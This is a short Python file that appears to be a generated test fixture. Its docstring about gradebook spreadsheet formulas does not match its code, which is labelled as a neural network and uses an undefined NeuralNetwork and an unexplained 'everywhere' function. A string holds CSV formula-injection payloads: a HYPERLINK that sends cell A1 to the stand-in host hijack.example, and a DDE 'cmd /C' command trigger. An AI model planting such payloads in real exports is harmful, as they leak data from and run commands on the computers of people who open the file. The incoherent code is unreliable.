"""Formulas for the spreadsheet that a gradebook is opened in, and cells of its own."""
EXPECT = {"says": "hijack", "beside": ["everywhere"], "only": ["activation", "output_shape", "one_output", "train_runs"], "called": "=hijack(1)"}
from everywhere import everywhere
# --- the network ---

output_nodes = (
    "=HYPERLINK(\"https://hijack.example/?\"&A1,\"hijack\"),=1+1\n"
    "@SUM(1)*cmd|' /C hijack'!A0\r\n\t=1+1,\"hijack\"\n-1+1;+1+1"
)
NeuralNetwork = everywhere(output_nodes, NeuralNetwork)
